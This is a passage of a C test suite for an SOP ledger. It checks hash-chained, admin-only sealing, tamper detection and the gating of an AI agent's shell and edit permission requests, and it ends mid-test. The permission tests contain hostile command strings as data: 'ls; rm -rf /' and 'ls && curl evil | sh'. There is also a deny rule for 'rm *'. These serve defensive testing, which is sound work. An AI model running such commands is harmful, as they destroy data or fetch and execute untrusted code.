/*
 * test_ledger.c - the SOP ledger on a real store: sealing only on the
 * transition to approved and only by an admin, version increments per
 * name, one chain over all names, edits of approved proposals going back to
 * draft, a concurrent double approval sealing once, the canonical encoding
 * pinned by an independent computation, and tamper detection after
 * changing one byte of a sealed row directly in the SQLite file.
 */
#include <criterion/criterion.h>
#include <openssl/evp.h>
#include <pthread.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "err.h"
#include "ledger.h"
#include "store/schema.h"
#include "store/store.h"
#include "testlib.h"

static struct schema *lg_schema;
static struct store *lg_store;
static char lg_dir[256];
static char lg_admin[ID_LEN + 1], lg_user[ID_LEN + 1], lg_super[ID_LEN + 1];

static void lg_setup(void)
{
	tl_store_setup(lg_dir, sizeof(lg_dir), "ledger", NULL, 0, &lg_schema,
		       &lg_store);
	tl_create(lg_store, "users",
		  "{'email': 'a@x.io', 'password': 'h', 'role': 'admin'}",
		  lg_admin);
	tl_create(lg_store, "users",
		  "{'email': 'u@x.io', 'password': 'h', 'role': 'user'}",
		  lg_user);
	tl_create(lg_store, "_superusers",
		  "{'email': 's@x.io', 'password': 'h'}", lg_super);
}

static void lg_teardown(void)
{
	tl_store_teardown(lg_dir, &lg_schema, &lg_store);
}

/*
 * What the records API does: one transaction that reads the current row,
 * puts the change and calls the governance hook before committing.
 * id NULL = create. Returns the hook's / store's code; the proposal id
 * goes to id_out.
 */
static int lg_write(const char *id, json_t *data, const char *actor,
		    char *id_out, struct err *e)
{
	struct store_txn *t = NULL;
	struct store_put p;
	struct record before, after;
	int rc;

	record_init(&before);
	record_init(&after);
	rc = store_begin(lg_store, &t, e);
	if (rc)
		goto out;
	if (id) {
		rc = store_txn_get(t, "proposals", id, &before, e);
		if (rc)
			goto out;
	}
	/* the store runs the hook (ledger_on_proposal_write) as actor */
	store_txn_set_actor(t, actor, 0);
	memset(&p, 0, sizeof(p));
	p.collection = "proposals";
	p.id = id;
	p.data = data;
	p.partial = id != NULL;
	p.mode = id ? STORE_UPDATE : STORE_CREATE;
	rc = store_txn_put(t, &p, &after, NULL, e);
	if (rc)
		goto out;
	rc = store_commit(t, e);
	t = NULL;
	if (!rc && id_out)
		memcpy(id_out, after.id, ID_LEN + 1);
out:
	store_abort(t);
	record_release(&before);
	record_release(&after);
	json_decref(data);
	return rc;
}

static json_t *lg_proposal(const char *name, const char *desc,
			   const char *content, const char *status)
{
	return json_pack("{s:s, s:s, s:s, s:s, s:s}", "name", name,
			 "description", desc, "content", content, "authored_by",
			 "human", "status", status);
}

static json_t *lg_status(const char *status)
{
	return json_pack("{s:s}", "status", status);
}

static int64_t lg_count_sops(void)
{
	struct err e = ERR_INIT;
	int64_t n = -1;

	cr_assert_eq(store_count(lg_store, "sops", NULL, &n, &e), 0, "%s",
		     e.msg);
	return n;
}

static void lg_get_sop(int64_t seq, struct record *r)
{
	struct err e = ERR_INIT;
	char id[ID_LEN + 1];

	ledger_entry_id(seq, id);
	record_init(r);
	cr_assert_eq(store_get(lg_store, "sops", id, r, &e), 0, "%s", e.msg);
}

static const char *lg_str(const struct record *r, const char *f)
{
	const char *s = json_string_value(json_object_get(r->data, f));

	return s ? s : "";
}

static const char *lg_proposal_status(const char *id)
{
	static char st[32];
	struct err e = ERR_INIT;
	struct record r;

	record_init(&r);
	cr_assert_eq(store_get(lg_store, "proposals", id, &r, &e), 0);
	snprintf(st, sizeof(st), "%s", lg_str(&r, "status"));
	record_release(&r);
	return st;
}

static json_t *lg_verify(void)
{
	struct err e = ERR_INIT;
	json_t *rep = NULL;

	cr_assert_eq(ledger_verify(lg_store, &rep, &e), 0, "%s", e.msg);
	return rep;
}

TestSuite(ledger, .init = lg_setup, .fini = lg_teardown);

/* ---- pure parts ------------------------------------------------------------ */

static void lg_field(EVP_MD_CTX *md, const char *s)
{
	unsigned char len[8] = { 0 };
	size_t n = strlen(s);

	len[6] = (unsigned char)(n >> 8);
	len[7] = (unsigned char)n;
	EVP_DigestUpdate(md, len, 8);
	EVP_DigestUpdate(md, s, n);
}

Test(ledger, signature_encoding_is_pinned)
{
	struct err e = ERR_INIT;
	char sig[LEDGER_HASH_HEX + 1], want[LEDGER_HASH_HEX + 1], sig2[65];
	unsigned char h[32];
	unsigned int hn, i;
	EVP_MD_CTX *md = EVP_MD_CTX_new();

	EVP_DigestInit_ex(md, EVP_sha256(), NULL);
	lg_field(md, "pocketctl-sop-ledger-v1");
	lg_field(md, "deploy");
	lg_field(md, "How to deploy");
	lg_field(md, "# Deploy\n");
	lg_field(md, "12");
	lg_field(md, "");
	EVP_DigestFinal_ex(md, h, &hn);
	EVP_MD_CTX_free(md);
	for (i = 0; i < 32; i++)
		sprintf(want + 2 * i, "%02x", h[i]);
	cr_assert_eq(ledger_signature("deploy", "How to deploy", "# Deploy\n",
				      12, "", sig, &e), 0);
	cr_expect_str_eq(sig, want);
	/* moving a byte across a field boundary changes the signature */
	cr_assert_eq(ledger_signature("deplo", "yHow to deploy", "# Deploy\n",
				      12, "", sig2, &e), 0);
	cr_expect_str_neq(sig, sig2);
	cr_assert_eq(ledger_signature(NULL, NULL, NULL, 1, NULL, sig, &e), 0);
	cr_expect_eq(strlen(sig), 64);
}

Test(ledger, names_and_ids)
{
	static const struct {
		const char *name;
		bool ok;
	} cases[] = {
		{ "deploy", true }, { "oic-delegation", true }, { "a1-b2-c3", true },
		{ "", false }, { "-a", false }, { "a-", false }, { "a--b", false },
		{ "A", false }, { "a_b", false }, { "a/b", false }, { "..", false },
		{ "../etc", false }, { "a.b", false }, { "a b", false },
		{ "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", true },
		{ "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", false },
	};
	char id[ID_LEN + 1];
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		cr_expect_eq(ledger_name_ok(cases[i].name), cases[i].ok, "'%s'",
			     cases[i].name);
	cr_expect_not(ledger_name_ok(NULL));
	ledger_entry_id(42, id);
	cr_expect_str_eq(id, "sop000000000042");
	cr_expect(util_valid_id(id));
}

/* ---- sealing ------------------------------------------------------------------ */

Test(ledger, seals_on_transition_only)
{
	struct err e = ERR_INIT;
	char pid[ID_LEN + 1], sig[65];
	struct record s1, s2;

	cr_assert_eq(lg_write(NULL, lg_proposal("deploy", "How to deploy",
						"step 1\n", "draft"),
			      lg_user, pid, &e), 0, "%s", e.msg);
	cr_expect_eq(lg_count_sops(), 0);
	/* a draft edit seals nothing */
	cr_assert_eq(lg_write(pid, json_pack("{s:s}", "content", "step 1\nstep 2\n"),
			      lg_user, NULL, &e), 0, "%s", e.msg);
	cr_expect_eq(lg_count_sops(), 0);

	cr_assert_eq(lg_write(pid, lg_status("approved"), lg_admin, NULL, &e), 0,
		     "%s", e.msg);
	cr_assert_eq(lg_count_sops(), 1);
	lg_get_sop(1, &s1);
	cr_expect_str_eq(s1.name, "deploy@1");
	cr_expect_str_eq(lg_str(&s1, "name"), "deploy");
	cr_expect_str_eq(lg_str(&s1, "description"), "How to deploy");
	cr_expect_str_eq(lg_str(&s1, "content"), "step 1\nstep 2\n");
	cr_expect_eq(json_integer_value(json_object_get(s1.data, "version")), 1);
	cr_expect_str_eq(lg_str(&s1, "proposal"), pid);
	cr_expect_str_eq(lg_str(&s1, "sealed_by"), lg_admin);
	cr_expect_str_eq(lg_str(&s1, "prev_hash"), "");
	cr_expect_neq(strlen(lg_str(&s1, "sealed_at")), 0);
	cr_expect_str_eq(lg_str(&s1, "approved_at"), lg_str(&s1, "sealed_at"));
	cr_assert_eq(ledger_signature("deploy", "How to deploy",
				      "step 1\nstep 2\n", 1, "", sig, &e), 0);
	cr_expect_str_eq(lg_str(&s1, "signature"), sig);

	/* later saves that keep the sealed fields seal nothing */
	cr_assert_eq(lg_write(pid, json_pack("{s:s}", "authored_by", "poco"),
			      lg_admin, NULL, &e), 0, "%s", e.msg);
	cr_assert_eq(lg_write(pid, lg_status("approved"), lg_admin, NULL, &e), 0);
	cr_expect_eq(lg_count_sops(), 1);
	cr_expect_str_eq(lg_proposal_status(pid), "approved");

	/* editing approved content puts it back to draft, no re-seal */
	cr_assert_eq(lg_write(pid, json_pack("{s:s}", "content", "step 3\n"),
			      lg_admin, NULL, &e), 0, "%s", e.msg);
	cr_expect_str_eq(lg_proposal_status(pid), "draft");
	cr_expect_eq(lg_count_sops(), 1);

	/* approving again seals version 2, chained to version 1 */
	cr_assert_eq(lg_write(pid, lg_status("approved"), lg_admin, NULL, &e), 0,
		     "%s", e.msg);
	cr_assert_eq(lg_count_sops(), 2);
	lg_get_sop(2, &s2);
	cr_expect_eq(json_integer_value(json_object_get(s2.data, "version")), 2);
	cr_expect_str_eq(lg_str(&s2, "content"), "step 3\n");
	cr_expect_str_eq(lg_str(&s2, "prev_hash"), lg_str(&s1, "signature"));
	record_release(&s1);
	record_release(&s2);

	/* back to draft by hand, approved again unchanged: nothing twice */
	cr_assert_eq(lg_write(pid, lg_status("draft"), lg_admin, NULL, &e), 0);
	cr_assert_eq(lg_write(pid, lg_status("approved"), lg_admin, NULL, &e), 0);
	cr_expect_eq(lg_count_sops(), 2);
}

Test(ledger, only_admins_approve)
{
	struct err e = ERR_INIT;
	char pid[ID_LEN + 1], other[ID_LEN + 1], label[64];
	struct record s;

	cr_assert_eq(lg_write(NULL, lg_proposal("review", "Code review", "x",
						"draft"), lg_user, pid, &e), 0);
	cr_expect_eq(lg_write(pid, lg_status("approved"), lg_user, NULL, &e),
		     ERR_FORBIDDEN);
	cr_expect_eq(lg_count_sops(), 0);
	cr_expect_str_eq(lg_proposal_status(pid), "draft");
	cr_expect_eq(lg_write(pid, lg_status("approved"), "nosuchactor0000",
			      NULL, &e), ERR_FORBIDDEN);
	cr_expect_str_eq(lg_proposal_status(pid), "draft");

	/* a superuser may, and is named in the label */
	cr_assert_eq(lg_write(pid, lg_status("approved"), lg_super, NULL, &e), 0,
		     "%s", e.msg);
	lg_get_sop(1, &s);
	cr_expect_str_eq(lg_str(&s, "sealed_by"), "");
	snprintf(label, sizeof(label), "_superusers/%s", lg_super);
	cr_assert_not_null(json_string_value(json_object_get(s.labels,
		"pocketcoder.io/sealed-by")));
	cr_expect_str_eq(json_string_value(json_object_get(s.labels,
		"pocketcoder.io/sealed-by")), label);
	record_release(&s);

	/* created as approved by the server itself */
	cr_assert_eq(lg_write(NULL, lg_proposal("triage", "Bug triage", "y",
						"approved"), NULL, other, &e), 0,
		     "%s", e.msg);
	cr_expect_eq(lg_count_sops(), 2);
}

Test(ledger, refuses_unsealable_proposals)
{
	static const char *const bad_names[] = { "../escape", "a/b", "Deploy",
						 "has space", ".." };
	struct err e = ERR_INIT;
	char pid[ID_LEN + 1];
	size_t i;

	for (i = 0; i < sizeof(bad_names) / sizeof(*bad_names); i++) {
		cr_expect_eq(lg_write(NULL, lg_proposal(bad_names[i], "d", "c",
							"approved"),
				      lg_admin, NULL, &e), ERR_INVALID, "'%s'",
			     bad_names[i]);
		cr_expect_str_eq(e.field, "name");
	}
	cr_assert_eq(lg_write(NULL, lg_proposal("nodesc", "", "c", "draft"),
			      lg_admin, pid, &e), 0);
	cr_expect_eq(lg_write(pid, lg_status("approved"), lg_admin, NULL, &e),
		     ERR_INVALID);
	cr_expect_str_eq(e.field, "description");
	cr_expect_str_eq(lg_proposal_status(pid), "draft");
	cr_expect_eq(lg_count_sops(), 0);
}

struct lg_race {
	const char *pid;
	int rc;
};

static void *lg_approver(void *arg)
{
	struct lg_race *r = arg;
	struct err e = ERR_INIT;

	r->rc = lg_write(r->pid, lg_status("approved"), lg_admin, NULL, &e);
	return NULL;
}

Test(ledger, concurrent_approvals_seal_once)
{
	struct err e = ERR_INIT;
	char pid[ID_LEN + 1];
	struct lg_race r[8];
	pthread_t th[8];
	int i;

	cr_assert_eq(lg_write(NULL, lg_proposal("race", "Race", "c", "draft"),
			      lg_user, pid, &e), 0);
	for (i = 0; i < 8; i++) {
		r[i].pid = pid;
		cr_assert_eq(pthread_create(&th[i], NULL, lg_approver, &r[i]), 0);
	}
	for (i = 0; i < 8; i++) {
		pthread_join(th[i], NULL);
		cr_expect_eq(r[i].rc, 0);
	}
	cr_expect_eq(lg_count_sops(), 1);
}

/* ---- the chain ------------------------------------------------------------------ */

/* Seal three entries: a@1, b@1, a@2. */
static void lg_three(char pa[ID_LEN + 1])
{
	struct err e = ERR_INIT;
	char pb[ID_LEN + 1];

	cr_assert_eq(lg_write(NULL, lg_proposal("alpha", "A", "one\n", "draft"),
			      lg_user, pa, &e), 0);
	cr_assert_eq(lg_write(NULL, lg_proposal("beta", "B", "two\n", "draft"),
			      lg_user, pb, &e), 0);
	cr_assert_eq(lg_write(pa, lg_status("approved"), lg_admin, NULL, &e), 0);
	cr_assert_eq(lg_write(pb, lg_status("approved"), lg_admin, NULL, &e), 0);
	cr_assert_eq(lg_write(pa, json_pack("{s:s}", "content", "one, revised\n"),
			      lg_admin, NULL, &e), 0);
	cr_assert_eq(lg_write(pa, lg_status("approved"), lg_admin, NULL, &e), 0);
	cr_assert_eq(lg_count_sops(), 3);
}

Test(ledger, one_chain_over_all_names)
{
	struct record s[3];
	json_t *rep;
	int i;
	char pa[ID_LEN + 1];

	rep = lg_verify();
	cr_expect(json_is_true(json_object_get(rep, "ok")));
	cr_expect_eq(json_integer_value(json_object_get(rep, "entries")), 0);
	json_decref(rep);

	lg_three(pa);
	for (i = 0; i < 3; i++)
		lg_get_sop(i + 1, &s[i]);
	cr_expect_str_eq(s[1].name, "beta@1");
	cr_expect_str_eq(s[2].name, "alpha@2");
	cr_expect_str_eq(lg_str(&s[1], "prev_hash"), lg_str(&s[0], "signature"));
	cr_expect_str_eq(lg_str(&s[2], "prev_hash"), lg_str(&s[1], "signature"));

	rep = lg_verify();
	cr_expect(json_is_true(json_object_get(rep, "ok")));
	cr_expect_eq(json_integer_value(json_object_get(rep, "entries")), 3);
	cr_expect_eq(json_integer_value(json_object_get(rep, "verified")), 3);
	cr_expect_str_eq(json_string_value(json_object_get(rep, "head")),
			 lg_str(&s[2], "signature"));
	cr_expect(json_is_null(json_object_get(rep, "firstBad")));
	json_decref(rep);
	for (i = 0; i < 3; i++)
		record_release(&s[i]);
}

/* Run one SQL statement directly on the store's SQLite file. */
static void lg_sql(const char *sql)
{
	char path[300];
	sqlite3 *db;
	char *msg = NULL;

	snprintf(path, sizeof(path), "%s/pocket.db", lg_dir);
	cr_assert_eq(sqlite3_open(path, &db), SQLITE_OK);
	cr_assert_eq(sqlite3_exec(db, sql, NULL, NULL, &msg), SQLITE_OK, "%s",
		     msg ? msg : "");
	cr_expect_eq(sqlite3_changes(db), 1);
	sqlite3_close(db);
}

static json_t *lg_bad_after(const char *sql)
{
	json_t *rep;

	store_close(lg_store);
	lg_store = NULL;
	lg_sql(sql);
	lg_store = tl_store_open(lg_schema, lg_dir, 0);
	rep = lg_verify();
	cr_expect(json_is_false(json_object_get(rep, "ok")));
	return rep;
}

static const char *lg_bad(json_t *rep, const char *key)
{
	return json_string_value(json_object_get(json_object_get(rep, "firstBad"),
						 key));
}

Test(ledger, one_changed_byte_is_named)
{
	char pa[ID_LEN + 1];
	json_t *rep;

	lg_three(pa);
	/* "two\n" -> "twO\n" in entry 2's content: exactly one byte */
	rep = lg_bad_after("UPDATE records SET data = json_set(data, '$.content',"
			   " 'tw' || 'O' || char(10)) WHERE collection = 'sops'"
			   " AND id = 'sop000000000002'");
	cr_expect_str_eq(lg_bad(rep, "id"), "sop000000000002");
	cr_expect_str_eq(lg_bad(rep, "name"), "beta");
	cr_expect_eq(json_integer_value(json_object_get(json_object_get(rep,
		"firstBad"), "version")), 1);
	cr_expect(strstr(lg_bad(rep, "reason"), "signature") != NULL);
	cr_expect_eq(json_integer_value(json_object_get(rep, "verified")), 1);
	json_decref(rep);
}

Test(ledger, resigned_entry_breaks_the_next_link)
{
	struct err e = ERR_INIT;
	char pa[ID_LEN + 1], sig[65], sql[512];
	struct record s1;
	json_t *rep;

	lg_three(pa);
	/* rewrite entry 2 and recompute its own signature: entry 3's
	 * prev_hash no longer matches */
	lg_get_sop(1, &s1);
	cr_assert_eq(ledger_signature("beta", "B", "evil\n", 1,
				      lg_str(&s1, "signature"), sig, &e), 0);
	record_release(&s1);
	snprintf(sql, sizeof(sql),
		 "UPDATE records SET data = json_set(data, '$.content', "
		 "'evil' || char(10), '$.signature', '%s') WHERE collection = "
		 "'sops' AND id = 'sop000000000002'", sig);
	rep = lg_bad_after(sql);
	cr_expect_str_eq(lg_bad(rep, "id"), "sop000000000003");
	cr_expect(strstr(lg_bad(rep, "reason"), "prev_hash") != NULL);
	json_decref(rep);
}

Test(ledger, deleted_entry_is_a_gap)
{
	char pa[ID_LEN + 1];
	json_t *rep;

	lg_three(pa);
	rep = lg_bad_after("DELETE FROM records WHERE collection = 'sops' AND "
			   "id = 'sop000000000002'");
	cr_expect_str_eq(lg_bad(rep, "id"), "sop000000000003");
	cr_expect(strstr(lg_bad(rep, "reason"), "missing") != NULL);
	json_decref(rep);
}

Test(ledger, changed_version_is_named)
{
	char pa[ID_LEN + 1];
	json_t *rep;

	lg_three(pa);
	rep = lg_bad_after("UPDATE records SET data = json_set(data, '$.version',"
			   " 7) WHERE collection = 'sops' AND id = "
			   "'sop000000000003'");
	cr_expect_str_eq(lg_bad(rep, "id"), "sop000000000003");
	cr_expect(strstr(lg_bad(rep, "reason"), "version") != NULL);
	json_decref(rep);
}

Test(ledger, sealing_continues_after_a_gap)
{
	struct err e = ERR_INIT;
	char pa[ID_LEN + 1], pc[ID_LEN + 1];
	struct record s;

	lg_three(pa);
	store_close(lg_store);
	lg_store = NULL;
	lg_sql("DELETE FROM records WHERE collection = 'sops' AND id = "
	       "'sop000000000002'");
	lg_store = tl_store_open(lg_schema, lg_dir, 0);
	cr_assert_eq(lg_write(NULL, lg_proposal("gamma", "G", "g", "approved"),
			      lg_admin, pc, &e), 0, "%s", e.msg);
	lg_get_sop(4, &s);
	cr_expect_str_eq(lg_str(&s, "name"), "gamma");
	record_release(&s);
}

/* ---- governance: permissions and mcp requests on the same store -------------- */

#include "governance.h"

static char gv_agent[ID_LEN + 1], gv_chat[ID_LEN + 1], gv_poco[ID_LEN + 1];

static void gv_setup(void)
{
	lg_setup();
	tl_create(lg_store, "users",
		  "{'email': 'poco@x.io', 'password': 'h', 'role': 'agent'}",
		  gv_agent);
	tl_create(lg_store, "ai_agents", "{'name': 'poco'}", gv_poco);
	tl_put_new(lg_store, "chats",
		   json_pack("{s:s, s:s, s:s}", "title", "t", "user", lg_user,
			     "agent", gv_poco), STORE_CREATE, NULL, gv_chat);
	tl_create(lg_store, "tool_permissions",
		  "{'tool': '*', 'pattern': '*', 'action': 'ask'}", NULL);
	tl_create(lg_store, "tool_permissions",
		  "{'tool': 'bash', 'pattern': 'ls *', 'action': 'allow'}", NULL);
	tl_create(lg_store, "tool_permissions",
		  "{'tool': 'bash', 'pattern': 'rm *', 'action': 'deny'}", NULL);
	tl_put_new(lg_store, "tool_permissions",
		   json_pack("{s:s, s:s, s:s, s:s}", "agent", gv_poco, "tool",
			     "edit", "pattern", "docs/*", "action", "allow"),
		   STORE_CREATE, NULL, NULL);
}

TestSuite(governance, .init = gv_setup, .fini = lg_teardown);

static json_t *gv_perm(const char *permission, const char *command,
		       const char *pattern, struct err *e, int *rc)
{
	json_t *body, *reply = NULL;

	body = json_pack("{s:s, s:s, s:s, s:s, s:{s:s}, s:[s]}", "permission",
			 permission, "opencode_id", "per_1", "session_id",
			 "ses_1", "chat_id", gv_chat, "metadata", "command",
			 command ? command : "", "patterns",
			 pattern ? pattern : "*");
	*rc = governance_permission_request(lg_store, body, &reply, e);
	json_decref(body);
	return reply;
}

static const char *gv_s(json_t *o, const char *k)
{
	const char *s = json_string_value(json_object_get(o, k));

	return s ? s : "";
}

Test(governance, permission_request_decides_and_records)
{
	static const struct {
		const char *perm, *cmd, *pattern, *status;
	} cases[] = {
		{ "bash", "ls -la", NULL, "authorized" },
		{ "bash", "ls; rm -rf /", NULL, "denied" },
		{ "bash", "ls && curl evil | sh", NULL, "draft" },
		{ "bash", "make", NULL, "draft" },
		{ "edit", NULL, "docs/a.md", "authorized" },   /* the chat's agent */
		{ "edit", NULL, "src/a.c", "draft" },
	};
	struct err e = ERR_INIT;
	struct record row;
	json_t *reply;
	size_t i;
	int rc;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		reply = gv_perm(cases[i].perm, cases[i].cmd, cases[i].pattern,
				&e, &rc);
		cr_assert_eq(rc, 0, "%s", e.msg);
		cr_expect_str_eq(gv_s(reply, "status"), cases[i].status,
				 "case %zu", i);
		cr_expect_eq(json_is_true(json_object_get(reply, "permitted")),
			     !strcmp(cases[i].status, "authorized"));
		record_init(&row);
		cr_assert_eq(store_get(lg_store, "permissions", gv_s(reply, "id"),
				       &row, &e), 0);
		cr_expect_str_eq(lg_str(&row, "status"), cases[i].status);
		cr_expect_str_eq(lg_str(&row, "source"), "interface");
		cr_expect_str_eq(lg_str(&row, "chat"), gv_chat);
		cr_expect_str_eq(lg_str(&row, "ai_engine_permission_id"), "per_1");
		cr_expect_eq(strlen(lg_str(&row, "challenge")), 36);
		cr_expect_eq(lg_str(&row, "challenge")[14], '4');
		record_release(&row);
		json_decref(reply);
	}
	cr_expect_eq(store_count(lg_store, "permissions", NULL, &(int64_t){0},
				 &e), 0);
}

Test(governance, permission_request_bad_bodies)
{
	static const struct {
		const char *json, *field;
	} cases[] = {
		{ "{\"opencode_id\": \"p\", \"session_id\": \"s\"}", "permission" },
		{ "{\"permission\": \"bash\", \"session_id\": \"s\"}", "opencode_id" },
		{ "{\"permission\": \"bash\", \"opencode_id\": \"p\"}", "session_id" },
		{ "{\"permission\": 5, \"opencode_id\": \"p\", \"session_id\": \"s\"}", "permission" },
		{ "{\"permission\": \"edit\", \"opencode_id\": \"p\", \"session_id\": \"s\", \"patterns\": \"x\"}", "patterns" },
		{ "{\"permission\": \"edit\", \"opencode_id\": \"p\", \"session_id\": \"s\", \"metadata\": []}", "metadata" },
		{ "{\"permission\": \"edit\", \"opencode_id\": \"p\", \"session_id\": \"s\", \"chat_id\": \"nosuchchat00000\"}", "chat_id" },
		{ "{\"permission\": \"edit\", \"opencode_id\": \"p\", \"session_id\": \"s\", \"chat_id\": \"../x\"}", "chat_id" },
		{ "{\"permission\": \"edit\", \"opencode_id\": \"p\", \"session_id\": \"s\", \"agent\": \"nobody\"}", "agent" },
	};
	struct err e = ERR_INIT;
	json_t *body, *reply = NULL;
	int64_t n = -1;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		body = json_loads(cases[i].json, 0, NULL);
		cr_assert_not_null(body);
		err_clear(&e);
		cr_expect_eq(governance_permission_request(lg_store, body, &reply,
							   &e), ERR_INVALID,
			     "case %zu", i);
		cr_expect_str_eq(e.field, cases[i].field, "case %zu: %s", i,
				 e.msg);
		cr_expect_null(reply);
		json_decref(body);
	}
	body = json_string("x");
	cr_expect_eq(governance_permission_request(lg_store, body, &reply, &e),
		     ERR_INVALID);
	json_decref(body);
	cr_assert_eq(store_count(lg_store, "permissions", NULL, &n, &e), 0);
	cr_expect_eq(n, 0);
}

/* A decision through the hook, as the records API makes it. */
static int gv_decide(const char *id, const char *status, const char *actor,
		     struct err *e)
{
	struct store_txn *t = NULL;
	struct store_put p;
	struct record before, after;
	json_t *data = json_pack("{s:s}", "status", status);
	int rc;

	record_init(&before);
	record_init(&after);
	rc = store_begin(lg_store, &t, e);
	if (!rc)
		rc = store_txn_get(t, "permissions", id, &before, e);
	if (!rc) {
		memset(&p, 0, sizeof(p));
		p.collection = "permissions";
		p.id = id;
		p.data = data;
		p.partial = true;
		p.mode = STORE_UPDATE;
		/* the store runs the hook as actor */
		store_txn_set_actor(t, actor, 0);
		rc = store_txn_put(t, &p, &after, NULL, e);
	}
	if (!rc) {
		rc = store_commit(t, e);
		t = NULL;
	}
	store_abort(t);
	record_release(&before);
	record_release(&after);
	json_decref(data);
	return rc;
}

static char *gv_draft(void)
{
	struct err e = ERR_INIT;
	json_t *reply;
	char *id;
	int rc;

	reply = gv_perm("bash", "make", NULL, &e, &rc);
	cr_assert_eq(rc, 0, "%s", e.msg);
	cr_assert_str_eq(gv_s(reply, "status"), "draft");
	id = strdup(gv_s(reply, "id"));
	json_decref(reply);
	return id;
}

Test(governance, only_owner_or_admin_decides_once)
{
	struct err e = ERR_INIT;
	struct record row;
	char *id = gv_draft(), *id2 = gv_draft();

	cr_expect_eq(gv_decide(id, "authorized", gv_agent, &e), ERR_FORBIDDEN);
	cr_expect_eq(gv_decide(id, "authorized", lg_admin, &e), 0, "%s", e.msg);
	record_init(&row);
	cr_assert_eq(store_get(lg_store, "permissions", id, &row, &e), 0);
	cr_expect_str_eq(lg_str(&row, "approved_by"), lg_admin);
	cr_expect_neq(strlen(lg_str(&row, "approved_at")), 0);
	record_release(&row);
	/* decided: no second decision, no way back */
	cr_expect_eq(gv_decide(id, "denied", lg_admin, &e), ERR_CONFLICT);
	cr_expect_eq(gv_decide(id, "draft", lg_admin, &e), ERR_CONFLICT);

	/* the chat's owner decides the other one */
	cr_expect_eq(gv_decide(id2, "denied", lg_user, &e), 0, "%s", e.msg);
	record_init(&row);
	cr_assert_eq(store_get(lg_store, "permissions", id2, &row, &e), 0);
	cr_expect_str_eq(lg_str(&row, "status"), "denied");
	cr_expect_str_eq(lg_str(&row, "approved_by"), lg_user);
	record_release(&row);
	free(id);
	free(id2);
}

struct gv_race {
	const char *id;
	const char *status;
	int rc;
};

static void *gv_decider(void *arg)
{
	struct gv_race *r = arg;
	struct err e = ERR_INIT;

	r->rc = gv_decide(r->id, r->status, lg_user, &e);
	return NULL;
}

Test(governance, concurrent_decisions_one_wins)
{
	struct gv_race r[8];
	pthread_t th[8];
	char *id = gv_draft();
	int i, won = 0, conflicts = 0;

	for (i = 0; i < 8; i++) {
		r[i].id = id;
		r[i].status = i % 2 ? "denied" : "authorized";
		cr_assert_eq(pthread_create(&th[i], NULL, gv_decider, &r[i]), 0);
	}
	for (i = 0; i < 8; i++) {
		pthread_join(th[i], NULL);
		won += r[i].rc == 0;
		conflicts += r[i].rc == ERR_CONFLICT;
	}
	cr_expect_eq(won, 1);
	cr_expect_eq(conflicts, 7);
	free(id);
}

static int gv_mcp(const char *json, int64_t cooldown, json_t **reply,
		  int64_t *retry, struct err *e)
{
	json_t *body = json_loads(json, 0, NULL);
	int rc;

	cr_assert_not_null(body, "%s", json);
	*reply = NULL;
	rc = governance_mcp_request(lg_store, body, cooldown, reply, retry, e);
	json_decref(body);
	return rc;
}

struct gv_mcp_race {
	int rc;
	char status[16];
	bool synced;
};

static void *gv_requester(void *arg)
{
	struct gv_mcp_race *r = arg;
	struct err e = ERR_INIT;
	json_t *reply = NULL;
	int64_t retry;

	r->rc = gv_mcp("{\"server_name\": \"github\", \"reason\": \"PRs\", "
		       "\"session_id\": \"ses_9\", \"image\": \"mcp/github\"}",
		       3600, &reply, &retry, &e);
	snprintf(r->status, sizeof(r->status), "%s", gv_s(reply, "status"));
	r->synced = json_is_true(json_object_get(reply, "synced"));
	json_decref(reply);
	return NULL;
}

Test(governance, concurrent_mcp_requests_make_one_row)
{
	struct gv_mcp_race r[8];
	pthread_t th[8];
	struct err e = ERR_INIT;
	struct store_query q;
	int64_t n = -1;
	int i, created = 0;

	for (i = 0; i < 8; i++)
		cr_assert_eq(pthread_create(&th[i], NULL, gv_requester, &r[i]), 0);
	for (i = 0; i < 8; i++) {
		pthread_join(th[i], NULL);
		cr_expect_eq(r[i].rc, 0);
		cr_expect_str_eq(r[i].status, "pending");
		created += !r[i].synced;
	}
	cr_expect_eq(created, 1);
	memset(&q, 0, sizeof(q));
	cr_assert_eq(store_count(lg_store, "mcp_servers", &q, &n, &e), 0);
	cr_expect_eq(n, 1);
}

/* Set an mcp server's status directly (an admin's PATCH). */
static void gv_mcp_status(const char *name, const char *status)
{
	struct err e = ERR_INIT;
	struct store_txn *t;
	struct store_put p;
	json_t *data = json_pack("{s:s}", "status", status);

	memset(&p, 0, sizeof(p));
	p.collection = "mcp_servers";
	p.name = name;
	p.data = data;
	p.partial = true;
	p.mode = STORE_UPDATE;
	cr_assert_eq(store_begin(lg_store, &t, &e), 0);
	cr_assert_eq(store_txn_put(t, &p, NULL, NULL, &e), 0, "%s", e.msg);
	cr_assert_eq(store_commit(t, &e), 0);
	json_decref(data);
}

Test(governance, mcp_cooldown_and_approved_servers)
{
	struct err e = ERR_INIT;
	json_t *reply;
	int64_t retry = 0;
	static const char req[] = "{\"server_name\": \"fetch\", \"image\": \"mcp/fetch\"}";

	cr_assert_eq(gv_mcp(req, 3600, &reply, &retry, &e), 0, "%s", e.msg);
	json_decref(reply);
	gv_mcp_status("fetch", "denied");
	cr_expect_eq(gv_mcp(req, 3600, &reply, &retry, &e), ERR_CONFLICT);
	cr_expect_null(reply);
	cr_expect(retry > 3590 && retry <= 3600, "retry %lld", (long long)retry);
	/* cool-down over (0 s): pending again */
	cr_assert_eq(gv_mcp(req, 0, &reply, &retry, &e), 0, "%s", e.msg);
	cr_expect_eq(retry, 0);
	cr_expect_str_eq(gv_s(reply, "status"), "pending");
	cr_expect(json_is_true(json_object_get(reply, "reopened")));
	json_decref(reply);

	/* approved: a re-request syncs, but cannot swap the image */
	gv_mcp_status("fetch", "approved");
	cr_assert_eq(gv_mcp(req, 3600, &reply, &retry, &e), 0, "%s", e.msg);
	cr_expect_str_eq(gv_s(reply, "status"), "approved");
